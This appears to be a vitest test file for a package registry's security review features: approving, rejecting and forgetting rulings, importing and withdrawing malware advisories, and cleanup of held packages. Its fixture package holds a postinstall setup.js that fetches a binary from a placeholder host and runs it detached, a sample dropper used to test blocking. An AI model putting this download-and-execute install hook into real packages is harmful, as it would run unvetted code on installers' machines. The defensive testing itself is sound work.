import { expect, test } from "vitest";
import { hashPassword } from "../../src/access/password.ts";
import { malware } from "../support/osv.ts";
import { startRegistry } from "../support/registry.ts";
import { rule } from "../support/review.ts";
import { startUpstream } from "../support/upstream.ts";

const phrase = "correct horse battery";
const passphrase = await hashPassword(phrase);
const config = { approval: { passphrase } };

const installer = (version: string) => ({
  "setup.js": `// ${version}
const https = require("https");
https.get("https://files.example/bin", (r) => r.pipe(require("fs").createWriteStream("bin")));
require("child_process").spawn("./bin", { detached: true, stdio: "ignore" });
`,
});
const manifest = { scripts: { postinstall: "node setup.js" } };

test("C1: forget rejection", async () => {
  await using registry = await startRegistry({ config });
  await registry.publish("bad", "1.0.0", installer("1"), { manifest });
  await rule(registry, "bad@1.0.0", "approve", { passphrase: phrase, scope: "findings" });
  console.log((await registry.tarball("bad", "1.0.0")).status);
  await rule(registry, "bad@1.0.0", "reject");
  console.log((await registry.tarball("bad", "1.0.0")).status);
  const f = await rule(registry, "bad@1.0.0", "forget");
  console.log(f.status, (await registry.tarball("bad", "1.0.0")).status);
});

test("C2: withdraw advisory", async () => {
  await using upstream = startUpstream();
  upstream.add("lib", "1.0.0");
  await using registry = await startRegistry({ upstream, config });
  const imp = (r: object) => registry.asOwner("/-/admin/advisories", { method: "POST", json: { advisories: [r] } });
  console.log((await imp(malware("MAL-2026-1", "lib"))).status);
  console.log((await registry.tarball("lib", "1.0.0")).status);
  const w = await imp(malware("MAL-2026-1", "lib", { withdrawn: "2026-01-02T00:00:00Z" }));
  console.log(w.status, (await registry.tarball("lib", "1.0.0")).status);
});

test("K: cleanup and held", async () => {
  await using upstream = startUpstream();
  upstream.add("bad", "1.0.0", installer("1"), { manifest });
  await using registry = await startRegistry({ upstream });
  console.log((await registry.tarball("bad", "1.0.0")).status);
  const r = await registry.asOwner("/-/admin/cleanup", { method: "POST", json: {} });
  console.log(r.status, await r.text());
  const a = await rule(registry, "bad@1.0.0", "approve");
  console.log(a.status, (await registry.tarball("bad", "1.0.0")).status);
});
